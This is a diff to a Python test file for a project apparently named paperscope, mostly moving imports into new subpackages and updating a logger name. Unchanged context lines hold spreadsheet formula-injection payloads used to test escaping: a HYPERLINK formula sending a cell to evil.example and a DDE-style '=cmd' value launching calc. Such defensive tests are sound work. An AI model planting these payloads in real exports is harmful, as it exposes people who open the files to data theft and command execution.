@@ -18,10 +18,14 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from test_robustness import _hand_pdf, _reportlab
 
-from paperscope import cli, entrypoints, escape, failures, mentions, pdf
-from paperscope.exitcodes import Exit, markdown_table
+from paperscope.cli import commands as cli
+from paperscope.cli import entrypoints
+from paperscope.core import escape
+from paperscope.core.exitcodes import Exit, markdown_table
+from paperscope.paper import mentions, pdf
+from paperscope.storage import failures
+from test_robustness import _hand_pdf, _reportlab
 
 REPO = Path(__file__).resolve().parents[1]
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
@@ -50,7 +54,7 @@ def test_every_csv_writer_goes_through_escape():
 
 
 def test_downloader_manifest_defuses_and_reads_back(tmp_path):
-    from paperscope import corpus, download
+    from paperscope.sources import corpus, download
 
     (tmp_path / "2024").mkdir()
     (tmp_path / "2024" / "a.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
@@ -66,9 +70,8 @@ def test_downloader_manifest_defuses_and_reads_back(tmp_path):
 
 
 def test_review_list_defuses_its_tab_separated_output(capsys):
-    from paperscope import review
-
-    from paperscope import schemas
+    from paperscope.report import review
+    from paperscope.storage import schemas
 
     row = {"review_id": "r" * 20, "raw": "=cmd|' /C calc'!A0", "corrected_country": "US", "verdict": "wrong",
            "reviewer": "@me", "reviewed_at": "2026-01-01", "paper_id": "p" * 20, "note": "-x"}
@@ -114,7 +117,7 @@ def test_a_fence_cannot_be_closed_by_the_text():
 
 
 def test_metadata_agreement_table_escapes_titles():
-    from paperscope import metadata
+    from paperscope.sources import metadata
 
     diff = pd.DataFrame([{"title_pdf": LINK_TITLE + " | x", "has_us_pdf": 1, "has_cn_pdf": 0, "has_us_meta": 0,
                           "has_cn_meta": 1, "matched_by": "title"}])
@@ -169,7 +172,7 @@ def test_after_a_bomb_the_next_pdf_gets_a_fresh_child(bomb):
 
 
 def test_bomb_limits_are_settings_with_defaults():
-    from paperscope.config import load_config
+    from paperscope.core.config import load_config
 
     cfg = load_config()
     limits = pdf.Limits.from_config(cfg)
@@ -178,8 +181,9 @@ def test_bomb_limits_are_settings_with_defaults():
 
 
 def test_ordinary_streams_pass_the_stream_limit():
-    from reportlab.pdfgen import canvas
     import io
+
+    from reportlab.pdfgen import canvas
 
     buf = io.BytesIO()
     c = canvas.Canvas(buf, pageCompression=1)
@@ -401,7 +405,7 @@ def test_a_lasting_conflict_names_table_and_year_and_exits_5(monkeypatch, tmp_pa
     def write():
         calls.append(1)
         raise kind("Files were added to partition [year=2025] by a concurrent update.")
-    with caplog.at_level(logging.WARNING, logger="paperscope.failures"):
+    with caplog.at_level(logging.WARNING, logger="paperscope.storage.failures"):
         with pytest.raises(failures.WriteConflict) as caught:
             failures.with_retries(write, "year 2025 of /wh/papers", retries=2, backoff_s=0)
     assert len(calls) == 3 and len([r for r in caplog.records if "retry" in r.getMessage()]) == 2
@@ -411,8 +415,8 @@ def test_a_lasting_conflict_names_table_and_year_and_exits_5(monkeypatch, tmp_pa
 
 
 def test_write_years_passes_the_years_and_retries_to_the_writer(monkeypatch):
-    from paperscope import tables
-    from paperscope.config import load_config
+    from paperscope.core.config import load_config
+    from paperscope.storage import tables
 
     seen = {}
     monkeypatch.setattr(failures, "with_retries",
@@ -443,7 +447,7 @@ def test_a_permission_error_outside_a_write_is_not_called_unwritable():
 
 
 def test_review_import_into_a_busy_table_is_one_line(tmp_path, capsys, monkeypatch):
-    from paperscope import review
+    from paperscope.report import review
 
     def busy(_rows):
         raise failures.WriteConflict("another run is writing /wh/reviews at the same time; run again")
